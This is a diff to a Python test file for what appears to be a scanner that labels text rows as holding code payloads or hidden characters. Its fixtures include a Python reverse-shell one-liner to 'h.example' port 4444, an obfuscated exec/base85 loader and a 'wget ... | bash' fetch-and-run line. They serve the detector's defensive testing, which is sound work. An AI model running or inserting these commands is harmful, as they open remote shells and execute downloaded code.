@@ -31,6 +31,12 @@ GERMAN = (
     "Der Wärter schrieb jeden Sonntag einen Brief an seine Schwester, und sie antwortete in der Woche danach."
 )
 
+REVERSE = (
+    "import socket,os,subprocess;c=socket.socket();c.connect(('h.example',4444));"
+    "[os.dup2(c.fileno(),n) for n in (0,1,2)];subprocess.run(['/bin/bash','-i'])\n"
+)
+HIDDEN = "exec(__import__('zlib').decompress(__import__('base64').b85decode('c$_Hw0000000000')))\n"
+
 
 def text(value, **raw):
     return Row("r", "a.jsonl", 1, text=value, raw={"text": value, **raw})
@@ -127,6 +133,12 @@ def shuffled(value, seed=0):
         ("import os\nimport base64\nx = 1\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "payload"),
         ("import base64\nx = 1\ny = base64.b64decode(text)\nprint(x, y)\n", None),
         ("SELECT a\nFROM b\nWHERE c = 1;\nos.system('wget -qO- http://x.example/i.sh | bash')\n", "payload"),
+        ("struct Node {\n    int v;\n};\n" + REVERSE, "payload"),
+        (PROSE + "\n\n" + REVERSE, "payload"),
+        (PROSE + "\n\n" + HIDDEN, "payload"),
+        (PROSE + "\nThis is what the malware did:\n\n" + HIDDEN, None),
+        (PROSE + "\n\n    " + HIDDEN + "\nis how the answer began.", None),
+        ("import os\nimport subprocess\ns.connect(at)\nsubprocess.call(['/bin/sh', '-c', a])\n", None),
         ("A note" + "\u200b\u200d\u200b\u200c" + " on ships. " + PROSE, "hidden_marks"),
     ],
 )  # fmt: skip
